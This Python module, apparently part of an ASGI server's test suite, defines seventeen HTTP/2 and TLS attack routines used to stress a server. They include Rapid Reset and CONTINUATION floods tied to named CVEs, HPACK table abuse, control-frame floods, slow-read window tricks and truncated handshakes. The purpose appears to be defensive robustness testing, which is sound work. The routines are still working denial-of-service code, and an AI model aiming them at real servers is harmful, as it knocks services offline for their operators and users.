"""Attackers that use HTTP/2 and TLS. They ignore errors."""

import asyncio
import random
from typing import Self

from hpack import Encoder

from tinyasgi.protocols.http2.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    header,
    settings,
)

from .http1 import get
from .peer import Address, Peer, Visit
from .websocket import frame

COMPLETE = END_HEADERS | END_STREAM
#: Blocks that use no table, for a GET and for a POST.
GET, POST = b"\x82\x86\x01\x04here", b"\x83\x86\x01\x04here\x04\x05/echo"


def raw(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return header(kind, flags, stream, len(payload)) + payload


def path(name: str) -> bytes:
    return GET + b"\x04" + bytes((len(name),)) + name.encode()


def number(value: int) -> bytes:
    return value.to_bytes(4, "big")


def some_ids(count: int) -> range:
    return range(1, 2 * count, 2)


class Attacker(Peer):
    """A client that begins HTTP/2. window: the initial one of its streams, in bytes."""

    protocol = "h2"
    window = 65535

    async def __aenter__(self) -> Self:
        await super().__aenter__()
        await self.send(PREFACE + settings({INITIAL_WINDOW_SIZE: self.window}))
        return self

    async def read(self) -> None:
        """Read until the server closes, at most two seconds."""
        async with asyncio.timeout(2):
            while await self.reader.read(65536):
                pass


class Closed(Attacker):
    """All windows of its streams are closed."""

    window = 0


async def flood(server: Address, *frames: bytes, opening: bytes = b"", times: int = 1500) -> None:
    async with Attacker(server) as peer:
        await peer.send(opening + b"".join(frames) * times)
        await peer.read()


async def attack_resets(server: Address) -> None:
    """Requests that are reset at once (CVE-2023-44487)."""
    frames = [
        raw(HEADERS, COMPLETE, each, path("/stream")) + raw(RST_STREAM, 0, each, number(8))
        for each in some_ids(400)
    ]
    await flood(server, *frames, times=1)


async def attack_resets_by_the_server(server: Address) -> None:
    """Requests that the server resets (CVE-2025-8671)."""
    frames = [
        raw(HEADERS, END_HEADERS, each, POST) + raw(WINDOW_UPDATE, 0, each, number(0))
        for each in some_ids(400)
    ]
    await flood(server, *frames, times=1)


async def attack_slow_resets(server: Address) -> None:
    """Resets just below the limit."""
    async with Attacker(server) as peer:
        for start in range(1, 3000, 300):
            for each in range(start, start + 300, 2):
                await peer.send(raw(HEADERS, COMPLETE, each, path("/stream")))
                await peer.send(raw(RST_STREAM, 0, each, number(8)))
            await asyncio.sleep(1)


async def attack_control_frames(server: Address) -> None:
    """Floods of frames that are part of no request."""
    upload = raw(HEADERS, END_HEADERS, 1, POST)
    kinds = [
        raw(PING, 0, 0, b"x" * 8),
        raw(SETTINGS, 0, 0),
        settings({INITIAL_WINDOW_SIZE: 5}) + settings({INITIAL_WINDOW_SIZE: 6}),
        raw(PRIORITY, 0, 1, b"\0" * 5),
        raw(WINDOW_UPDATE, 0, 0, number(1)),
        raw(DATA, 0, 1),
        raw(0x16, 0, 0, b"x" * 100),
    ]
    await flood(server, random.choice(kinds), opening=upload)


async def attack_continuations(server: Address) -> None:
    """A header block without end (CVE-2024-27316)."""
    opening = raw(HEADERS, END_STREAM, 1, GET)
    size = random.choice([0, 1, 1000, 16000])
    await flood(server, raw(CONTINUATION, 0, 1, b"\0" * size), opening=opening, times=50)


async def attack_tables(server: Address) -> None:
    """References to one field, many times, in many streams (CVE-2026-49975)."""
    field = b"\x40\1a" + random.choice([b"\1b", b"\x7f\x81\x1e" + b"x" * 4000])
    block = GET + b"\x84" + field + b"\xbe" * random.choice([50, 4000, 16000])
    frames = [raw(HEADERS, COMPLETE, each, block[:16384]) for each in some_ids(50)]
    async with Closed(server) as peer:
        await peer.send(b"".join(frames))
        await peer.read()


async def attack_new_fields(server: Address) -> None:
    """Fields that are always new, in all tables and caches."""
    encoder = Encoder()
    async with Attacker(server) as peer:
        for each in some_ids(200):
            fields = [(f"x-{random.random()}", str(random.random())) for _ in range(20)]
            block = GET + b"\x04\x06/" + b"%05d" % each + encoder.encode(fields)
            await peer.send(raw(HEADERS, COMPLETE, each, block))
        await peer.read()


async def attack_closed_windows(server: Address) -> None:
    """Large responses that can't be sent."""
    frames = [raw(HEADERS, COMPLETE, each, path("/large")) for each in some_ids(100)]
    async with Closed(server) as peer:
        await peer.send(b"".join(frames))
        await asyncio.sleep(random.random() * 5)
        if random.random() < 0.5:
            peer.reset()


async def attack_small_windows(server: Address) -> None:
    """A large response that is sent byte by byte."""
    async with Closed(server) as peer:
        await peer.send(raw(HEADERS, COMPLETE, 1, path("/large")))
        for _ in range(100):
            await peer.send(raw(WINDOW_UPDATE, 0, 1, number(1)))
            await asyncio.sleep(0.01)


async def attack_no_reading(server: Address) -> None:
    """Large responses that fill the write buffer."""
    frames = [raw(HEADERS, COMPLETE, each, path("/large")) for each in some_ids(100)]
    async with Attacker(server) as peer:
        await peer.send(raw(WINDOW_UPDATE, 0, 0, number(1 << 30)) + b"".join(frames))
        await asyncio.sleep(random.random() * 5)
        peer.reset()


async def attack_byte_by_byte(server: Address) -> None:
    """Headers that arrive byte by byte."""
    async with Attacker(server) as peer:
        for each in raw(HEADERS, COMPLETE, 1, path("/" + "a" * 100)):
            await peer.send(bytes((each,)))
            await asyncio.sleep(0.02)


async def attack_uploads(server: Address) -> None:
    """Request bodies that do not end."""
    async with Attacker(server) as peer:
        for each in some_ids(30):
            await peer.send(raw(HEADERS, END_HEADERS, each, POST))
            for _ in range(random.randrange(5)):
                await peer.send(raw(DATA, 0, each, bytes(16000)))
            if random.random() < 0.5:
                await peer.send(raw(RST_STREAM, 0, each, number(8)))
        await asyncio.sleep(random.random())
        random.choice([peer.reset, peer.half_close, peer.writer.close])()


async def attack_early_responses(server: Address) -> None:
    """Responses that are complete before the request body."""
    post = b"\x83\x86\x84\x01\x04here"
    async with Attacker(server) as peer:
        for each in some_ids(20):
            await peer.send(raw(HEADERS, END_HEADERS, each, post))
            await peer.send(raw(DATA, 0, each, bytes(16000)) * 3)
        await peer.read()


async def attack_tunnels(server: Address) -> None:
    """WebSockets in streams, with floods of small messages that are not read."""
    block = b"\2\7CONNECT\x86\x01\x04here\x04\3/ws\0\x09:protocol\x09websocket"
    block += b"\0\x15sec-websocket-version\x0213"
    async with Closed(server) as peer:
        for each in some_ids(20):
            await peer.send(raw(HEADERS, END_HEADERS, each, block))
            await peer.send(raw(DATA, 0, each, frame(0x81, b"text") * 500))
            await peer.send(raw(DATA, 0, each, frame(0x89, b"ping") * 500))
        await asyncio.sleep(random.random() * 2)
        random.choice([peer.reset, peer.half_close, peer.writer.close])()


async def attack_frames(server: Address) -> None:
    """Valid frames with an error in them."""
    parts = [
        raw(HEADERS, COMPLETE, 1, path("/")),
        raw(HEADERS, END_HEADERS, 3, POST),
        raw(DATA, END_STREAM, 3, b"hello"),
        raw(PING, 0, 0, b"x" * 8),
        settings({INITIAL_WINDOW_SIZE: 100}),
        raw(WINDOW_UPDATE, 0, 3, number(100)),
    ]
    data = bytearray(b"".join(random.choices(parts, k=20)))
    data[random.randrange(len(data))] = random.randrange(256)
    async with Attacker(server) as peer:
        await peer.send(bytes(data))
        await peer.read()


async def attack_handshake(server: Address) -> None:
    """A TLS handshake that ends early, or a preface."""
    _, writer = await asyncio.open_connection("127.0.0.1", server.port)
    hello = b"\x16\3\1\2\0\1\0\1\xfc\3\3" + random.randbytes(32)
    data = random.choice([hello, PREFACE[:20], PREFACE, random.randbytes(50), get("/")])
    writer.write(data)
    await asyncio.sleep(random.random())
    writer.close()


async def attack_leave(server: Address) -> None:
    """A disconnect right after the requests."""
    frames = [raw(HEADERS, COMPLETE, each, path("/stream")) for each in some_ids(20)]
    async with Attacker(server) as peer:
        await peer.send(b"".join(frames))
        random.choice([peer.reset, peer.half_close, peer.writer.close])()


ATTACKS: list[Visit] = [
    attack_resets,
    attack_resets_by_the_server,
    attack_slow_resets,
    attack_control_frames,
    attack_continuations,
    attack_tables,
    attack_new_fields,
    attack_closed_windows,
    attack_small_windows,
    attack_no_reading,
    attack_byte_by_byte,
    attack_uploads,
    attack_early_responses,
    attack_tunnels,
    attack_frames,
    attack_handshake,
    attack_leave,
]
